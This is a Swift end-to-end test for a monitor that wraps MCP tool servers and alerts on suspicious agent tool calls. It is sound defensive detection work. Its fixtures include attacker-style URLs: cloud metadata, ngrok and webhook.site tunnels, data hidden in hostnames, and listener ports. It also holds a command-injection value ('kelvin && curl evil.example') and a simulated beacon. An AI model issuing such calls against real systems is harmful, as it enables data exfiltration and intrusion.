import Foundation
import Testing

/// Behaviour priors end to end: real `warden wrap` around a real MCP server (FastMCP, ordinary
/// tools), the Python SDK client, a real hub, under a policy that allows everything. Each attack
/// comes after a few ordinary calls, long before any baseline has learnt anything.
@Suite("behaviour priors: judged from the first call")
struct PriorTests {
    static let policy = """
        version: 1
        defaults: {action: allow}
        egress: {default: allow}
        """

    static var server: [String] { [Harness.python, Harness.repoRoot + "/Tests/EndToEndTests/Peers/ordinary_server.py"] }
    static func call(_ tool: String, _ args: [String: Any]) -> [String: Any] { ["op": "call", "name": tool, "arguments": args, "timeout": 60] }
    static var warmUp: [[String: Any]] { [
        call("get_weather", ["city": "Oslo"]), call("fetch", ["url": "https://docs.python.org/3/library/json.html"]),
        call("save_note", ["title": "standup", "body": "Discussed the release plan."]),
    ] }

    static let blob = String(repeating: "QWxhZGRpbjpvcGVuIHNlc2FtZQ9xZk", count: 20)

    /// (what, tool, arguments, the prior that must fire)
    static var attacks: [(String, String, [String: Any], String)] { [
        ("an IPv4 address", "fetch", ["url": "http://203.0.113.9/update"], "destination.ip-literal"),
        ("an address written as one number", "fetch", ["url": "http://3325256825/payload"], "destination.ip-literal"),
        ("an IPv6 address", "fetch", ["url": "http://[2001:db8::7]/x"], "destination.ip-literal"),
        ("the cloud metadata address", "fetch", ["url": "http://169.254.169.254/latest/meta-data/iam/"], "destination.ip-literal"),
        ("an address in a note's prose", "save_note", ["title": "todo", "body": "post the log to http://198.51.100.23/c when done"], "destination.ip-literal"),
        ("an ngrok tunnel", "fetch", ["url": "https://3f2a-81-2-69-142.ngrok-free.app/x"], "destination.tunnel"),
        ("a dynamic DNS name", "fetch", ["url": "https://homebox.duckdns.org/drop"], "destination.tunnel"),
        ("a request catcher", "fetch", ["url": "https://webhook.site/0b9c7e1e-5d1f-4c3a-9a7e-2f1d3c4b5a69"], "destination.tunnel"),
        ("a Cloudflare quick tunnel", "fetch", ["url": "https://smart-tiger-mouse.trycloudflare.com/"], "destination.tunnel"),
        ("a serveo tunnel", "fetch", ["url": "https://relay.serveo.net/in"], "destination.tunnel"),
        ("a generated-looking domain", "fetch", ["url": "https://qzxkvbnmtrwplh.net/"], "destination.random-label"),
        ("data carried in a host label", "fetch", ["url": "https://6170695f6b65795f7365637265743d.cdn-sync.example/"], "destination.random-label"),
        ("a listener's port", "fetch", ["url": "http://updates.example.net:4444/"], "destination.port"),
        ("another odd port", "fetch", ["url": "https://files.example.org:31337/get"], "destination.port"),
        ("an encoded query value", "fetch", ["url": "https://analytics.example.com/collect?d=" + String(blob.prefix(120))], "destination.query-data"),
        ("a long query string", "fetch", ["url": "https://example.com/search?" + (0..<40).map { "k\($0)=v\($0)x" }.joined(separator: "&")], "destination.query-data"),
        ("a city far past its maxLength", "get_weather", ["city": String(repeating: "Lima ", count: 100)], "argument.size"),
        ("a title past its maxLength", "save_note", ["title": String(repeating: "minutes ", count: 30), "body": "x"], "argument.size"),
        ("a value outside the enum", "get_weather", ["city": "Oslo", "unit": "kelvin && curl evil.example"], "argument.enum"),
        ("an encoded payload in a short field", "save_note", ["title": "t", "tag": blob], "argument.encoded"),
    ] }

    /// Ordinary work: documentation sites, searches, local servers, notes of every length, project paths.
    static func benign(_ n: Int) -> [[String: Any]] {
        let urls = ["https://docs.python.org/3/library/asyncio-task.html", "https://developer.mozilla.org/en-US/docs/Web/HTTP/Headers/Cache-Control",
                    "https://swift.org/documentation/api-design-guidelines/", "https://kubernetes.io/docs/concepts/services-networking/ingress/",
                    "https://en.wikipedia.org/wiki/Transport_Layer_Security", "https://github.com/modelcontextprotocol/python-sdk/issues?q=is%3Aopen+label%3Abug",
                    "https://pypi.org/project/mcp/", "https://mcp-server-git.readthedocs.io/en/latest/", "http://localhost:5173/", "http://127.0.0.1:8000/docs#/default",
                    "https://www.google.com/search?q=sqlite+wal+checkpoint+starvation&hl=en", "https://stackoverflow.com/questions/1732348/regex-match-open-tags?page=2&tab=votes",
                    "https://learn.microsoft.com/en-us/dotnet/api/system.string.format?view=net-8.0", "https://docs.github.com/en/rest/repos/contents?apiVersion=2022-11-28",
                    "https://crates.io/crates/serde_json/1.0.120", "https://go.dev/doc/effective_go#concurrency", "https://nodejs.org/api/fs.html#fspromisesreadfilepath-options",
                    "https://postgresql.org/docs/16/sql-createindex.html", "https://tools.ietf.org/html/rfc9110#section-15.5.1", "https://www.rfc-editor.org/rfc/rfc3986"]
        let cities = ["Oslo", "Saint-Rémy-de-Provence", "Llanfairpwllgwyngyllgogerychwyrndrobwllllantysiliogogogoch", "São Paulo", "Tokyo", "Zürich", "Ho Chi Minh City"]
        let sentence = "We agreed to ship the importer on Thursday, after the schema migration, and to keep the old endpoint for a month. "
        var steps: [[String: Any]] = [["op": "list"]]
        for i in 0..<24 {
            switch (i + n) % 4 {
            case 0: steps.append(call("fetch", ["url": urls[(i * 3 + n) % urls.count]]))
            case 1: steps.append(call("save_note", ["title": "meeting \(i) with the platform team", "body": String(repeating: sentence, count: 1 + (i * 7 + n) % 25), "tag": ["work", "q3-planning", "1:1"][i % 3]]))
            case 2: steps.append(call("get_weather", ["city": cities[(i + n) % cities.count], "unit": i % 2 == 0 ? "celsius" : "fahrenheit"]))
            default: steps.append(call("read_file", ["path": "/home/dev/project/Sources/App/\(["main", "Router", "Models/User", "Views/Index"][i % 4]).swift"]))
            }
        }
        return steps
    }

    @Test("under an allow-all policy, each prior raises its alert after only a few ordinary calls; long benign sessions raise none")
    func priors() async throws {
        try Harness.requirePeers()
        let home = Harness.temporaryHome()
        try Self.policy.write(toFile: home + "/policy.yaml", atomically: true, encoding: .utf8)
        let hub = try await HubProcess(home: home)
        defer { Task { await hub.stop() } }
        func wrap(_ name: String) -> [String] { [Harness.warden, "wrap", "--name", name, "--"] + Self.server }

        // A beacon, in the background: after the warm-up, the same host every two seconds.
        let ping = Self.call("fetch", ["url": "https://status.example.net/ping"])
        let beaconRun = pythonClientTask(command: wrap("beacon"), steps: [["op": "list"]] + Self.warmUp + [ping] + (0..<5).flatMap { _ in [["op": "sleep", "seconds": 2], ping] },
                                         home: home)
        // Five attacks a session, each after the warm-up; then five benign sessions, two at a time
        // (a machine running the other suites too must not turn this test into a load test).
        for group in 0..<4 {
            let steps = [["op": "list"] as [String: Any]] + Self.warmUp + Self.attacks[(group * 5)..<(group * 5 + 5)].map { Self.call($0.1, $0.2) }
            _ = try await pythonClient(command: wrap("attacks\(group)"), steps: steps, home: home)
        }
        for pair in stride(from: 0, to: 5, by: 2) {
            let runs = (pair..<min(5, pair + 2)).map { n in pythonClientTask(command: wrap("benign\(n)"), steps: Self.benign(n), home: home) }
            for run in runs { _ = try await run.value }
        }
        // A call the server never answers: judged as it leaves, so silence hides nothing. (The SDK
        // client may exit with an error while that call is still open: its status is not the point.)
        let silentSpec = try JSONSerialization.data(withJSONObject: ["command": wrap("silent"), "steps": [["op": "list"]] + Self.warmUp
                                                    + [["op": "call", "name": "lookup", "arguments": ["url": "http://203.0.113.77/drop"], "timeout": 2]]])
        _ = try await runProcess([Harness.python, Harness.clientScript, String(decoding: silentSpec, as: UTF8.self)], environment: ["WARDEN_HOME": home], timeout: 60)
        _ = try await beaconRun.value
        try await Task.sleep(for: .milliseconds(500))

        let alerts = (try await wardenJSON(["alerts", "list"], home: home)["alerts"] as? [[String: Any]]) ?? []
        func details(_ a: [String: Any]) -> [String: Any] { a["details"] as? [String: Any] ?? [:] }
        // Alerts are one per server, tool, prior and subject: count them against what each session did.
        var expected: [String: Int] = [:]
        for (i, attack) in Self.attacks.enumerated() { expected["attacks\(i / 5) \(attack.3)", default: 0] += 1 }
        var found: [String: Int] = [:]
        for a in alerts where a["rule"] as? String == "behaviour.prior" {
            #expect(!(details(a)["seen"] as? String ?? "").isEmpty && !(details(a)["expected"] as? String ?? "").isEmpty, "an alert that does not say what it saw: \(a)")
            found["\(a["server"] as? String ?? "") \(details(a)["prior"] as? String ?? "")", default: 0] += 1
        }
        var caught = 0
        for (key, n) in expected.sorted(by: { $0.key < $1.key }) {
            caught += min(n, found[key] ?? 0)
            if (found[key] ?? 0) < n { Issue.record("missed: \(n - (found[key] ?? 0)) of \(n) \(key)") }
        }
        let beacon = alerts.first { $0["server"] as? String == "beacon" && $0["rule"] as? String == "behaviour.beacon" }
        if beacon != nil { caught += 1 } else { Issue.record("missed: the beacon (\(alerts.filter { $0["server"] as? String == "beacon" }.map { $0["title"] ?? "" }))") }
        let silent = alerts.first { $0["server"] as? String == "silent" && details($0)["prior"] as? String == "destination.ip-literal" }
        if silent != nil { caught += 1 } else { Issue.record("missed: the call the server never answered") }
        let benignAlerts = alerts.filter { ($0["server"] as? String ?? "").hasPrefix("benign") }
        let benignCalls = (0..<5).map { Self.benign($0).count - 1 }.reduce(0, +)
        print("prior figures: attacks detected \(caught)/\(Self.attacks.count + 2) after \(Self.warmUp.count) ordinary calls; "
              + "alerts on \(benignCalls) benign calls in 5 sessions: \(benignAlerts.count)")
        #expect(caught == Self.attacks.count + 2)
        #expect(benignAlerts.isEmpty, "benign sessions raised: \(benignAlerts.map { $0["title"] ?? "" })")
    }
}
